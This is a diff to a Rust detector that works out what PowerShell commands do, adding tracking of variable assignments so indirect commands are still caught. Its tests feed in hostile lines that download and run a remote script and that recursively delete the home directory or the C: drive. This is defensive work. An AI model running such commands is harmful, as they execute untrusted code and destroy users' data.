@@ -205,10 +205,21 @@ const MAX_STATEMENTS: usize = 256;
 /// What the PowerShell code `text` does, statement by statement.
 fn deeds(text: &str) -> Vec<Deed> {
     let mut found = Vec::new();
+    let mut vars: Vec<(String, String)> = Vec::new();
     for statement in split_outside_quotes(text, &[";", "\n", "&&", "||", "{", "}"])
         .into_iter()
         .take(MAX_STATEMENTS)
     {
+        let statement = substitute(&statement, &vars);
+        // `$d = $HOME`, `$p = 'C:\'`: a name for one value, read where it
+        // is used later.
+        if let Some((name, value)) = assignment(&statement) {
+            vars.retain(|(n, _)| *n != name);
+            if vars.len() < MAX_STATEMENTS {
+                vars.push((name, value));
+            }
+            continue;
+        }
         let lower = statement.to_ascii_lowercase();
         let runs_text = has_word(&lower, "iex")
             || has_word(&lower, "invoke-expression")
@@ -251,6 +262,51 @@ fn deeds(text: &str) -> Vec<Deed> {
         }
     }
     found
+}
+
+/// `$name = VALUE` where VALUE is one word: the name (lower case, with its
+/// `$`) and the word.
+fn assignment(statement: &str) -> Option<(String, String)> {
+    let (name, value) = statement.trim().split_once('=')?;
+    let name = name.trim();
+    let valid = name.len() > 1
+        && name.starts_with('$')
+        && name
+            .chars()
+            .skip(1)
+            .all(|c| c.is_ascii_alphanumeric() || c == '_');
+    let text = value.trim();
+    let value = words(text);
+    match value.as_slice() {
+        _ if !valid || text.starts_with('=') => None,
+        [one] => Some((name.to_ascii_lowercase(), one.clone())),
+        // `$c = iwr https://x` then `iex $c`: the expression, kept whole.
+        [_, ..] => Some((name.to_ascii_lowercase(), format!("({text})"))),
+        [] => None,
+    }
+}
+
+/// `statement` with each variable of `vars` replaced by its value where it
+/// stands as a whole word (`$d`, not `$dir`).
+fn substitute(statement: &str, vars: &[(String, String)]) -> String {
+    let mut out = statement.to_owned();
+    for (name, value) in vars {
+        let lower = out.to_ascii_lowercase();
+        let mut result = String::with_capacity(out.len());
+        let mut last = 0;
+        for (at, _) in lower.match_indices(name.as_str()) {
+            let after = lower.get(at + name.len()..).and_then(|a| a.chars().next());
+            if at < last || after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
+                continue;
+            }
+            result.push_str(out.get(last..at).unwrap_or_default());
+            result.push_str(value);
+            last = at + name.len();
+        }
+        result.push_str(out.get(last..).unwrap_or_default());
+        out = result;
+    }
+    out
 }
 
 /// Downloaders as PowerShell spells them.
@@ -966,6 +1022,18 @@ mod tests {
         assert_eq!(deeds("reboot"), [Deed::Bash("reboot".into())]);
         assert!(deeds("Get-ChildItem; Write-Host 'rm -rf ~'").is_empty());
         assert!(deeds("Remove-Item ~ -Recurse -Force -WhatIf").is_empty());
+        assert_eq!(
+            deeds("$c = iwr https://x/a.ps1; iex $c"),
+            [Deed::RunsDownload]
+        );
+        assert_eq!(
+            deeds("$d = $HOME; Remove-Item $d -Recurse -Force"),
+            [Deed::Bash("rm -r -f -- ~".into())]
+        );
+        assert_eq!(
+            deeds("$dir = 'C:\\'; $d = 'x'; ri $dir -r"),
+            [Deed::Bash("rm -r -- /".into())]
+        );
         assert_eq!(
             deeds("Remove-Item -r -fo -ea 0 ~"),
             [Deed::Bash("rm -r -f -- ~".into())]
